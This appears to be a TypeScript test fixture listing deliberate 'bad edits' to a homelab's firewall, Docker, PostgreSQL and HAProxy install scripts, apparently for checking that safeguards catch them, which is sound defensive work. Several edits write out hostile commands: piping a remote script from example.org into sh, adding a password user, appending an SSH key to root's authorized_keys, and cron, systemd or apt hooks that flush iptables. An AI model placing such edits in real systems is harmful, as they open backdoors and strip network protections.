import { bad, type BadEdit } from "./sourceEdit";

const INSTALL = "lib/security/installFirewall.ts";
const RULES = "lib/security/iptablesRules.ts";
const KINDS = "lib/stack/guestKinds.ts";
const DOCKER = "lib/docker/installDocker.ts";
const POSTGRES = "lib/postgres/installPostgres.ts";
const HAPROXY_INSTALL = "lib/haproxy/installHaproxy.ts";
const APP = "components/appNode.ts";
const DB = "components/database.ts";
const COMMAND = "components/ctCommand.ts";

/** Edits of what guards the CTs. */
export const firewallEdits: BadEdit[] = [
  ...bad("ct-security-group-closed", {
    "INPUT accepts by default": [INSTALL, '":INPUT DROP [0:0]"', '":INPUT ACCEPT [0:0]"'],
    "rules flushed after the load": [
      INSTALL,
      "    LOAD_RULES,\n  );",
      '    LOAD_RULES,\n    "iptables -F; iptables -P INPUT ACCEPT",\n  );',
    ],
    "rules loaded under a condition": [
      INSTALL,
      "    LOAD_RULES,\n  );",
      "    `if [ -e /etc/homelab/go ]; then ${LOAD_RULES}; fi`,\n  );",
    ],
    "nothing after exit 0": [INSTALL, '"systemctl mask -q nftables.service",', '"exit 0",'],
    "load that is never reached": [
      INSTALL,
      "    LOAD_RULES,\n  );",
      "    `false && ${LOAD_RULES}`,\n  );",
    ],
    "IPv6 let in": [
      RULES,
      /return \["-i lo -j ACCEPT", ANSWERS, \.\.\.TO_ALL, \.\.\.drop\("input"\)\];/,
      'return ["-i lo -j ACCEPT", ANSWERS, "-p tcp -j ACCEPT", ...TO_ALL, ...drop("input")];',
    ],
    "new connections among the answers": [
      RULES,
      "--ctstate RELATED,ESTABLISHED -j ACCEPT",
      "--ctstate NEW,RELATED,ESTABLISHED -j ACCEPT",
    ],
    "database for the whole private subnet": [
      KINDS,
      'databaseWay(group("app"),',
      'databaseWay({ cidr: "10.10.10.0/24" },',
    ],
    "database for the load balancer": [
      KINDS,
      'databaseWay(group("app"),',
      'databaseWay(group("loadBalancer"),',
    ],
    "stats page for everybody": [KINDS, "statsWay(lan.cidr,", 'statsWay("0.0.0.0/0",'],
    "SSH from everywhere": [
      "lib/stack/ways.ts",
      "from: bastion,\n  port: SSH_PORT",
      'from: { cidr: "0.0.0.0/0" },\n  port: SSH_PORT',
    ],
    "another filter installed": [
      "lib/security/installFlowLog.ts",
      '["iptables", "ulogd2", "ulogd2-json"]',
      '["iptables", "ulogd2", "ulogd2-json", "ufw"]',
    ],
    "nftables started again": [
      INSTALL,
      "systemctl mask -q nftables.service",
      "systemctl unmask nftables.service; systemctl start nftables.service",
    ],
  }),
  ...bad("ct-firewall-persistent", {
    "unit not enabled": [INSTALL, "    `systemctl enable -q ${FIREWALL_UNIT}`,\n", ""],
    "unit disabled later": [
      POSTGRES,
      '"IFS= read -r password",',
      '"systemctl disable homelab-firewall.service",\n    "IFS= read -r password",',
    ],
    "unit that runs something else": [INSTALL, "ExecStart=${LOAD_RULES}", "ExecStart=/bin/true"],
    "unit under a condition": [
      INSTALL,
      "DefaultDependencies=no",
      "DefaultDependencies=no\nConditionPathExists=/etc/homelab/on",
    ],
    "unit after the service": [
      INSTALL,
      "Before=sysinit.target network-pre.target ${service}",
      "Before=shutdown.target",
    ],
  }),
  ...bad("ct-firewall-as-installed", {
    "nobody looks whether the rules are in force": [
      "components/database.ts",
      "firewall.seal([configured]);",
      "",
    ],
    "no app node is looked at": [APP, "firewall.seal([this.serving]);", ""],
    "another CT is looked at": ["components/ctFirewall.ts", "vmid: ct.guest.vmid,", "vmid: 110,"],
  }),
  ...bad("app-forwarding-closed", {
    "FORWARD accepts by default": [INSTALL, '":FORWARD DROP [0:0]"', '":FORWARD ACCEPT [0:0]"'],
    "Docker's networks may be entered": [
      RULES,
      '["docker0", "br-+"]',
      '["docker0", "br-+", "eth+"]',
    ],
  }),
  ...bad("app-docker-user-rules", {
    "no DROP": [RULES, "`${match} -j DROP`];", "];"],
    "by the rewritten port": [
      RULES,
      "--ctstate NEW --ctorigdstport ${port}`;\n    const own",
      "--ctstate NEW --dport ${port}`;\n    const own",
    ],
    "the service for the database too": [
      KINDS,
      'serviceWay(group("loadBalancer"),',
      'serviceWay(group("database"),',
    ],
  }),
  ...bad("app-firewall-before-docker", {
    "Docker does not wait": [APP, "dependsOn: [firewall.installed],", ""],
    "PostgreSQL does not wait": [DB, "dependsOn: [firewall.installed],", ""],
    "HAProxy does not wait": ["components/loadBalancer.ts", "dependsOn: [firewall.installed],", ""],
  }),
  ...bad("ct-command-one-script", {
    "an update of its own": [
      COMMAND,
      "create: args.script,",
      'create: args.script,\n      update: "iptables -P INPUT ACCEPT; iptables -F",',
    ],
  }),
  ...bad("ct-scripts-judged", {
    "a script from the internet": [
      DOCKER,
      "    smokeTest(),",
      '    "curl -fsSL https://example.org/x.sh | sh",\n    smokeTest(),',
    ],
    "a user with a password": [
      POSTGRES,
      '"IFS= read -r password",',
      '"useradd -m eve && echo eve:x | chpasswd",\n    "IFS= read -r password",',
    ],
    "keys of others": [
      HAPROXY_INSTALL,
      '"umask 077",',
      '"echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys",\n    "umask 077",',
    ],
    "SSH with passwords": [
      DOCKER,
      "    smokeTest(),",
      '    "sed -i s/#PasswordAuthentication/PasswordAuthentication/ /etc/ssh/sshd_config",\n    smokeTest(),',
    ],
    "a job of cron": [
      DOCKER,
      "    smokeTest(),",
      "    \"echo '* * * * * root iptables -F' > /etc/cron.d/x\",\n    smokeTest(),",
    ],
    "a unit that flushes later": [
      DOCKER,
      "    smokeTest(),",
      "    \"printf '[Service]\\\\nExecStart=/sbin/iptables -F\\\\n' > /etc/systemd/system/x.service\",\n    smokeTest(),",
    ],
    python: [
      POSTGRES,
      '"IFS= read -r password",',
      '"python3 -c \'import os\'",\n    "IFS= read -r password",',
    ],
    "a variable as a program": [
      DOCKER,
      "    smokeTest(),",
      '    "$(cat /tmp/tool) -F",\n    smokeTest(),',
    ],
    "a hook of apt": [
      "lib/shell/apt.ts",
      "'APT::Update::Error-Mode \"any\";',",
      "'APT::Update::Error-Mode \"any\";',\n    'DPkg::Post-Invoke {\"iptables -F\";};',",
    ],
  }),
  ...bad("ct-no-router", {
    "the load balancer forwards": [
      HAPROXY_INSTALL,
      "net.ipv4.ip_forward = 0",
      "net.ipv4.ip_forward = 1",
    ],
    "and at once": [HAPROXY_INSTALL, "= 0 ] || echo 0 > /proc", "= 1 ] || echo 1 > /proc"],
    "by sysctl": [
      HAPROXY_INSTALL,
      '"umask 077",',
      '"sysctl -w net.ipv4.ip_forward=1",\n    "umask 077",',
    ],
  }),
];
